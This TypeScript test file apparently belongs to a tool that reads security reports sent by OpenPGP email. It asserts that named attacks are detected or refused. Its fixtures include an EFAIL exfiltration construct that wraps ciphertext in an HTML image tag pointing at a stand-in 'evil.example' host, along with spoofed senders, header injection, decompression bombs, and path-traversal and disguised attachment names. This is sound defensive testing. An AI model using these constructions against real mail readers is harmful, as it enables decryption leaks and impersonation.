/** Attacks on mail readers, by name. Each asserts the verdict and the line a maintainer would be shown. */
import { beforeAll, describe, expect, it } from 'vitest';
import {
  bytes,
  ciphertext,
  clearSigned,
  crlf,
  encrypted,
  encryptedWith,
  html,
  mail,
  multipart,
  plain,
  signed,
} from '../../../tests/fixtures/attacks/mail.ts';
import { bomb, tampered, withoutIntegrity } from '../../../tests/fixtures/attacks/packets.ts';
import { cast, now, type Cast } from '../../../tests/fixtures/attacks/people.ts';
import { quotable } from '../../core/intake/quotable.ts';
import { protectionVerdict, signatureVerdict } from '../../core/intake/verdict.ts';
import { evidenceLine } from '../../shared/calc/evidence.ts';
import { mailReadingSchema, type MailReading } from '../../shared/schema/reading.ts';
import { openpgp } from '../openpgp/config.ts';
import { readMail, type MailRead } from './read-mail.ts';

let people: Cast;
beforeAll(async () => {
  people = await cast();
});

async function read(message: Uint8Array): Promise<MailRead & ReturnType<typeof judge>> {
  const result = await readMail(message, people.keyring, { now: now.toISOString() });
  mailReadingSchema.parse(result.reading);
  return { ...result, ...judge(result.reading) };
}

function judge(reading: MailReading) {
  const signature = signatureVerdict(reading, people.accepted);
  const protection = protectionVerdict(reading);
  const openedFor = protection.key ? people.maintainer.address : null;
  return { signature, protection, line: evidenceLine({ reading, signature, protection, openedFor }) };
}

const texts = (reading: MailReading): string[] =>
  reading.texts.filter(({ within }) => within === null).map(({ text }) => text.trim());

describe('a message as it should be', () => {
  it('encrypted and signed by the accepted key of the sender', async () => {
    const result = await read(
      mail(await encrypted(plain('the report'), people.maintainer.public, people.finder.secret)),
    );
    expect(result.signature).toMatchObject({
      state: 'good',
      covers: 'all',
      fingerprint: people.finder.fingerprint,
    });
    expect(result.protection).toMatchObject({
      state: 'full',
      integrity: 'mdc',
      key: people.maintainer.fingerprint,
    });
    expect(result.line).toBe(
      'encrypted to security@project.example, signed by the accepted key of finder@example.net, covers everything but the subject line',
    );
  });

  it('signed by two people, one of them accepted', async () => {
    const once = await signed(plain('the report'), people.stranger.secret);
    const result = await read(mail(await signed(once, people.finder.secret)));
    expect(result.reading.signatures).toHaveLength(2);
    expect(result.signature).toMatchObject({ state: 'good', covers: 'all' });
  });
});

describe('EFAIL', () => {
  it('direct exfiltration: HTML before and after the ciphertext does not get the plaintext between its quotes', async () => {
    const secret = await encrypted(plain('the secret'), people.maintainer.public);
    const result = await read(
      mail(multipart('mixed', [html('<img src="http://evil.example/'), secret, html('">')]), {
        from: 'x@evil.example',
      }),
    );
    for (const segment of [...result.reading.htmls, ...result.reading.texts]) {
      const isSecret = JSON.stringify(segment).includes('the secret');
      expect(isSecret && JSON.stringify(segment).includes('evil.example')).toBe(false);
      expect(segment.level.encrypted).toBe(isSecret);
    }
    expect(result.reading.problems).toEqual(
      expect.arrayContaining(['html-around-ciphertext', 'mixed-protection']),
    );
    expect(result.protection.state).toBe('partial');
    expect(result.line).toBe('only a part was encrypted to security@project.example, not signed');
  });

  it('a message without integrity protection is not shown, whatever it says', async () => {
    const result = await read(
      mail(encryptedWith(await withoutIntegrity('gadget', people.maintainer.public))),
    );
    expect(JSON.stringify(result.reading)).not.toContain('gadget');
    expect(result.reading.problems).toContain('no-integrity');
    expect(result.protection).toMatchObject({
      state: 'failed',
      integrity: 'none',
      reason: { code: 'no-integrity' },
    });
    expect(result.line).toBe(
      'encrypted, not opened: it has no integrity protection, so anybody could have changed it',
    );
  });

  it('a message whose ciphertext was changed is not shown', async () => {
    const message = tampered(await ciphertext(plain('the report '.repeat(40)), people.maintainer.public));
    const result = await read(mail(encryptedWith(message)));
    expect(JSON.stringify(result.reading)).not.toContain('the report');
    expect(result.protection).toMatchObject({ state: 'failed', reason: { code: 'modified' } });
    expect(result.line).toBe('encrypted, not opened: it was changed or damaged on the way');
  });

  it('a reply does not quote what was decrypted out of somebody else’s message', async () => {
    const captured = await encrypted(plain('the password is hunter2'), people.maintainer.public);
    const result = await read(
      mail(multipart('mixed', [plain('A question about your release.'), captured]), {
        from: 'x@evil.example',
      }),
    );
    const { segments, withheld, mustEncrypt } = quotable(result.reading);
    expect(segments.map(({ text }) => text.trim())).toEqual(['A question about your release.']);
    expect(withheld.map(({ text }) => text.trim())).toEqual(['the password is hunter2']);
    expect(mustEncrypt).toBe(true);
  });

  it('ciphertext hidden far below a harmless question is said to be there', async () => {
    const captured = await ciphertext('the password is hunter2', people.maintainer.public);
    const result = await read(
      mail(plain(`A question.\n${'\n'.repeat(80)}${captured}`), { from: 'x@evil.example' }),
    );
    expect(result.reading.problems).toContain('mixed-protection');
    expect(quotable(result.reading).segments.map(({ text }) => text.trim())).toEqual(['A question.']);
  });
});

describe('a signature that covers something else', () => {
  it('a signed part beside an unsigned one', async () => {
    const part = await signed(plain('I agree.'), people.finder.secret);
    const result = await read(mail(multipart('mixed', [plain('Please publish now.'), part])));
    expect(result.signature).toMatchObject({ state: 'good-unaccepted', covers: 'part', reason: 'partial' });
    expect(result.line).toBe(
      'not encrypted, a part is signed by the accepted key of finder@example.net, signed part only: the text above it is not covered',
    );
  });

  it('a signed message that is attached to an unsigned one', async () => {
    const inner = `From: finder@example.net\nSubject: old\n${await signed(plain('I agree.'), people.finder.secret)}`;
    const result = await read(
      mail(multipart('mixed', [plain('Please publish now.'), `Content-Type: message/rfc822\n\n${inner}`])),
    );
    expect(result.signature).toEqual({ state: 'none', covers: null });
    expect(result.reading.signatures[0]).toMatchObject({ status: 'good', within: '2' });
    expect(result.line).toBe('not encrypted, not signed');
    expect(texts(result.reading)).toEqual(['Please publish now.']);
  });

  it('a signed part hidden as an attachment', async () => {
    const part = await signed(
      'Content-Type: text/plain\nContent-Disposition: attachment; filename="a.txt"\n\nI agree.\n',
      people.finder.secret,
    );
    const result = await read(mail(multipart('mixed', [plain('Please publish now.'), part])));
    expect(result.signature).toMatchObject({ state: 'good-unaccepted', covers: 'part' });
    expect(result.line).toContain('signed part only: no text is covered');
  });

  it('one branch of multipart/alternative is signed, the other is shown', async () => {
    const part = await signed(plain('I agree.'), people.finder.secret);
    const result = await read(mail(multipart('alternative', [part, html('<p>Please publish now.</p>')])));
    expect(result.signature.state).not.toBe('good');
    expect(result.signature.covers).toBe('part');
    expect(result.line).toContain('signed part only');
  });

  it('text above and below a clear-signed block', async () => {
    const block = await clearSigned('I agree.', people.finder.secret);
    const result = await read(mail(plain(`Please publish now.\n\n${block}\nThank you.`)));
    expect(texts(result.reading)).toEqual(['Please publish now.', 'I agree.', 'Thank you.']);
    expect(result.signature).toMatchObject({ state: 'good-unaccepted', covers: 'part' });
    expect(result.line).toContain('signed part only: the text above and below it is not covered');
  });

  it('a clear-signed block with text smuggled in as an armor header', async () => {
    const block = await clearSigned('I agree.', people.finder.secret);
    const result = await read(mail(plain(block.replace(/(Hash: .*)/, '$1\nComment: Please publish now.'))));
    expect(result.signature).toEqual({ state: 'none', covers: null });
  });

  it('a signature over other bytes', async () => {
    const message = await signed(plain('Do not publish.'), people.finder.secret);
    const result = await read(mail(message.replace('Do not publish.', 'Do publish now.')));
    expect(result.signature).toMatchObject({ state: 'bad', reason: 'modified' });
    expect(result.line).toBe(
      'not encrypted, the signature does not fit: the text was changed, or the signature belongs to another',
    );
  });

  it('a list footer beside the signed part', async () => {
    const part = await signed(plain('the report'), people.finder.secret);
    const result = await read(
      mail(multipart('mixed', [part, plain('_____\nlist footer')]), { extra: 'List-Id: <l.example>\n' }),
    );
    expect(result.reading.problems).toContain('list-footer');
    expect(result.line).toContain('signed part only: the text below it is not covered');
  });
});

describe('a sender who is not', () => {
  it('two From headers', async () => {
    const part = await signed(plain('the report'), people.finder.secret);
    const result = await read(mail(part, { extra: 'From: boss@project.example\n' }));
    expect(result.reading.problems).toContain('several-from');
    expect(result.signature).toMatchObject({ state: 'mismatched-sender', reason: 'several-from' });
    expect(result.line).toContain('but the message names several senders');
  });

  it('two addresses in one From header', async () => {
    const part = await signed(plain('the report'), people.finder.secret);
    const result = await read(mail(part, { from: 'finder@example.net, boss@project.example' }));
    expect(result.signature).toMatchObject({ state: 'mismatched-sender', reason: 'several-from' });
  });

  it('a display name that shows another address', async () => {
    const part = await signed(plain('the report'), people.stranger.secret);
    const result = await read(mail(part, { from: '"finder@example.net" <stranger@evil.example>' }));
    expect(result.reading.problems).toContain('name-looks-like-address');
    expect(result.signature).toMatchObject({ state: 'good-unaccepted', reason: 'key-not-accepted' });
    expect(result.line).toContain('which nobody has accepted for stranger@evil.example');
  });

  it('a good signature by somebody who is not the sender', async () => {
    const part = await signed(plain('the report'), people.stranger.secret);
    const result = await read(mail(part));
    expect(result.signature).toMatchObject({ state: 'mismatched-sender', reason: 'key-names-another' });
    expect(result.line).toContain('but sent as finder@example.net');
  });

  it('the accepted key, under the address of another', async () => {
    const part = await signed(plain('the report'), people.finder.secret);
    const result = await read(mail(part, { from: 'boss@project.example' }));
    expect(result.signature).toMatchObject({ state: 'mismatched-sender', reason: 'accepted-for-another' });
  });

  it('a From inside the encryption that nobody signed is not shown as the sender', async () => {
    const inside = `From: finder@example.net\nSubject: real\nContent-Type: text/plain; hp="cipher"\n\nhello\n`;
    const result = await read(
      mail(await encrypted(inside, people.maintainer.public), {
        from: 'stranger@evil.example',
        subject: '[...]',
      }),
    );
    expect(result.reading.effective.from).toEqual([{ name: '', address: 'stranger@evil.example' }]);
    expect(result.reading.effective.subject).toBe('real');
    expect(result.reading.problems).toEqual(
      expect.arrayContaining(['outer-from-differs', 'protected-from-unsigned']),
    );
  });

  it('a Reply-To added in transit to a message with protected headers is not followed', async () => {
    const inside = `From: finder@example.net\nSubject: real\nContent-Type: text/plain; hp="cipher"\n\nhello\n`;
    const message = mail(await encrypted(inside, people.maintainer.public, people.finder.secret), {
      extra: 'Reply-To: x@evil.example\n',
    });
    const result = await read(message);
    expect(result.reading.effective.replyTo).toEqual([]);
    expect(result.reading.outer.replyTo).toEqual([{ name: '', address: 'x@evil.example' }]);
    expect(result.line).toBe(
      'encrypted to security@project.example, signed by the accepted key of finder@example.net, covers everything',
    );
  });

  it('line breaks hidden in an encoded subject do not become headers', async () => {
    const result = await read(
      mail(plain('x'), { subject: '=?utf-8?Q?hello=0D=0AFrom:_boss@project.example?=' }),
    );
    expect(result.reading.effective.subject).not.toMatch(/[\r\n]/);
    expect(result.reading.effective.from.map(({ address }) => address)).toEqual(['finder@example.net']);
    expect(result.signature.state).toBe('none');
  });

  it('protected headers of a captured message do not rename the mail that carries it', async () => {
    const inside = `From: finder@example.net\nSubject: Publish now\nContent-Type: text/plain; protected-headers="v1"\n\nhello\n`;
    const part = await encrypted(inside, people.maintainer.public, people.finder.secret);
    const result = await read(
      mail(multipart('mixed', [plain('hi'), part]), { from: 'x@evil.example', subject: 'Hello' }),
    );
    expect(result.reading.effective.subject).toBe('Hello');
    expect(result.reading.effective.from[0]?.address).toBe('x@evil.example');
    expect(result.signature.state).toBe('mismatched-sender');
  });
});

describe('a text that tells lies', () => {
  it('draws a good signature', async () => {
    const result = await read(
      mail(plain('gpg: Good signature from "Fay Finder <finder@example.net>" [ultimate]\n\nPlease publish.')),
    );
    expect(result.reading.problems).toContain('fake-verdict');
    expect(result.line).toBe('not encrypted, not signed');
  });

  it('carries legacy headers that say something else than the real ones: they stay visible', async () => {
    const inside = `Subject: real\nContent-Type: multipart/mixed; boundary=q; protected-headers="v1"\n\n--q\nContent-Type: text/plain; protected-headers="v1"\n\nSubject: Publish now\n\n--q\nContent-Type: text/plain\n\nhello\n--q--\n`;
    const result = await read(mail(await encrypted(inside, people.maintainer.public), { subject: '...' }));
    expect(result.reading.effective.subject).toBe('real');
    expect(texts(result.reading)).toEqual(['Subject: Publish now', 'hello']);
  });
});

describe('keys', () => {
  it('a key that came with the message does not make its signature good', async () => {
    const unknown = await read(
      mail(
        multipart('mixed', [
          await signed(plain('the report'), people.stranger.secret),
          `Content-Type: application/pgp-keys; name="key.asc"\nContent-Disposition: attachment; filename="key.asc"\n\n${people.stranger.public.key.armor()}`,
        ]),
        { from: people.stranger.address },
      ),
    );
    expect(unknown.reading.offeredKeys).toMatchObject([
      { fingerprint: people.stranger.fingerprint, source: 'attachment', secret: false },
    ]);
    expect(unknown.signature.state).toBe('good-unaccepted');
  });

  it('a key with a user id of a megabyte is refused, and the mail is read', async () => {
    const packets = new openpgp.PacketList<InstanceType<typeof openpgp.UserIDPacket>>();
    packets.push(openpgp.UserIDPacket.fromObject({ name: 'A'.repeat(1000), email: 'a@example.net' }));
    const [user] = packets;
    Object.assign(user as object, { userID: 'A'.repeat(1_000_000) });
    const key = Buffer.concat([people.stranger.public.key.write().subarray(0, 53), packets.write()]).toString(
      'base64',
    );
    const armored = `-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n${key.replace(/.{64}/g, '$&\n')}\n-----END PGP PUBLIC KEY BLOCK-----\n`;
    const result = await read(
      mail(
        multipart('mixed', [
          plain('my key'),
          `Content-Type: application/pgp-keys\nContent-Disposition: attachment; filename="k.asc"\n\n${armored}`,
        ]),
      ),
    );
    expect(result.reading.offeredKeys).toEqual([]);
    expect(result.reading.problems).toContain('key-rejected');
    expect(texts(result.reading)).toEqual(['my key']);
  });

  it('a secret key in the mail is said to be one, and only its public half is kept', async () => {
    const armored = people.stranger.secret.key.armor();
    const result = await read(
      mail(
        multipart('mixed', [
          plain('my key'),
          `Content-Type: application/pgp-keys\nContent-Disposition: attachment; filename="k.asc"\n\n${armored}`,
        ]),
      ),
    );
    expect(result.reading.problems).toContain('secret-key-offered');
    expect(result.reading.offeredKeys[0]?.armored).toContain('PUBLIC KEY');
    expect(result.reading.offeredKeys[0]?.armored).not.toContain('PRIVATE');
  });
});

describe('mail that wants to break the reader', () => {
  it('a few hundred kilobytes that inflate to hundreds of megabytes are refused while they inflate', async () => {
    const result = await read(mail(encryptedWith(bomb(300))));
    expect(result.reading.layers[0]?.reason).toMatchObject({ code: 'too-large' });
    expect(result.reading.problems).toContain('too-large');
    expect(result.line).toBe('encrypted, not opened: it unpacks to more than is allowed');
  });

  it('10,000 nested multiparts', async () => {
    let entity = '';
    for (let depth = 0; depth < 10_000; depth++)
      entity += `Content-Type: multipart/mixed; boundary=b${depth}\n\n--b${depth}\n`;
    const result = await read(mail(`${entity}Content-Type: text/plain\n\nhello\n`));
    expect(result.reading.problems).toContain('too-deep');
    expect(result.line).toBe('not encrypted, not signed');
  });

  it('encryption wrapped into encryption without end', async () => {
    let entity = plain('core');
    for (let depth = 0; depth < 10; depth++) entity = await encrypted(entity, people.maintainer.public);
    const result = await read(mail(entity));
    expect(result.reading.problems).toContain('too-deep');
    expect(result.protection.state).toBe('partial');
  });

  it('thousands of signatures', async () => {
    const [, armor = ''] = (await signed(plain('x'), people.finder.secret)).split(
      '-----BEGIN PGP SIGNATURE-----',
    );
    const body =
      armor
        .split('-----END')[0]
        ?.split('\n')
        .filter((line) => line !== '' && !line.startsWith('='))
        .join('') ?? '';
    const many = Buffer.concat(Array.from({ length: 3000 }, () => Buffer.from(body, 'base64'))).toString(
      'base64',
    );
    const signature = `-----BEGIN PGP SIGNATURE-----\n\n${many.replace(/.{64}/g, '$&\n')}\n-----END PGP SIGNATURE-----\n`;
    const result = await read(
      mail(
        multipart('signed; protocol="application/pgp-signature"', [
          plain('x'),
          `Content-Type: application/pgp-signature\n\n${signature}`,
        ]),
      ),
    );
    expect(result.reading.signatures.length).toBeLessThanOrEqual(40);
    expect(result.signature.state).not.toBe('good');
  });

  it('names of attachments that are paths, devices or written backwards', async () => {
    const names = ['../../etc/cron.d/x', 'CON', 'report\u202Efdp.exe', 'a\u0000b.txt', ' .htaccess'];
    const parts = names.map(
      (name) =>
        `Content-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}\n\nx\n`,
    );
    const result = await read(mail(multipart('mixed', [plain('files'), ...parts])));
    for (const { name } of result.attachments) expect(name).toMatch(/^(?!con$)[^/\\\u0000-\u001f\u202e]+$/i);
    expect(result.reading.problems).toContain('attachment-name');
  });

  it('a program that calls itself a picture', async () => {
    const part = `Content-Type: image/png; name="x.png"\nContent-Disposition: attachment; filename="x.png"\nContent-Transfer-Encoding: base64\n\n${Buffer.from('MZ\x90\x00 this is a program').toString('base64')}\n`;
    const result = await read(mail(multipart('mixed', [plain('see'), part])));
    expect(result.reading.problems).toContain('type-mismatch');
  });
});

describe('shapes that servers make', () => {
  it('Exchange: multipart/mixed with the ciphertext as an octet-stream', async () => {
    const armored = await ciphertext(plain('the report'), people.maintainer.public, people.finder.secret);
    const result = await read(
      mail(
        multipart('mixed', [
          'Content-Type: text/plain; charset=us-ascii\n\n\n',
          'Content-Type: application/pgp-encrypted\n\nVersion: 1\n',
          `Content-Type: application/octet-stream; name="encrypted.asc"\nContent-Transfer-Encoding: base64\n\n${Buffer.from(crlf(armored)).toString('base64').replace(/.{76}/g, '$&\n')}\n`,
        ]),
      ),
    );
    expect(texts(result.reading)).toEqual(['the report']);
    expect(result.signature).toMatchObject({ state: 'good', covers: 'all' });
    expect(result.reading.problems).toContain('exchange-repaired');
  });

  it('LF line ends do not break a signature that was made over CRLF', async () => {
    const message = Buffer.from(
      mail(await signed(plain('line one\nline two'), people.finder.secret)),
    ).toString();
    const result = await read(new Uint8Array(Buffer.from(message.replaceAll('\r\n', '\n'))));
    expect(result.signature).toMatchObject({ state: 'good', covers: 'all' });
  });

  it('an encrypted file attached to a plain mail', async () => {
    const armored = await ciphertext('poc contents', people.maintainer.public);
    const part = `Content-Type: application/octet-stream; name="poc.txt.asc"\nContent-Disposition: attachment; filename="poc.txt.asc"\n\n${armored}`;
    const result = await read(mail(multipart('mixed', [plain('see the file'), part])));
    expect(result.attachments.map(({ name }) => name)).toEqual(['poc.txt']);
    expect(Buffer.from(result.attachments[0]?.content ?? []).toString()).toBe('poc contents');
    expect(result.reading.attachments[0]?.level.encrypted).toBe(true);
    expect(result.line).toBe('only a part was encrypted to security@project.example, not signed');
  });

  it('a detached signature beside its file speaks for the file, not for the text', async () => {
    const content = 'the exploit\r\n';
    const message = await openpgp.createMessage({ binary: Buffer.from(content) });
    const armored = await openpgp.sign({
      message,
      signingKeys: people.finder.secret.key,
      detached: true,
      date: now,
    });
    const parts = [
      plain('Please publish now.'),
      `Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="x.bin"\nContent-Transfer-Encoding: base64\n\n${Buffer.from(content).toString('base64')}\n`,
      `Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="x.bin.asc"\n\n${armored}`,
    ];
    const result = await read(mail(multipart('mixed', parts)));
    expect(result.reading.signatures).toMatchObject([
      { kind: 'detached-file', status: 'good', coversPaths: ['2'] },
    ]);
    expect(result.signature.state).toBe('none');
  });
});

it('an absurd date is not the time of receipt', async () => {
  const message = bytes(
    'From: a@example.net\nDate: Fri, 31 Dec 9999 23:59:59 +0000\nReceived: from a by b; Mon, 01 Jan 0000 00:00:00 +0000\nSubject: x\n\nhello\n',
  );
  const { reading } = await read(message);
  expect(reading.receipt).toMatchObject({ source: 'import', at: now.toISOString() });
  expect(reading.problems).toContain('date-implausible');
});
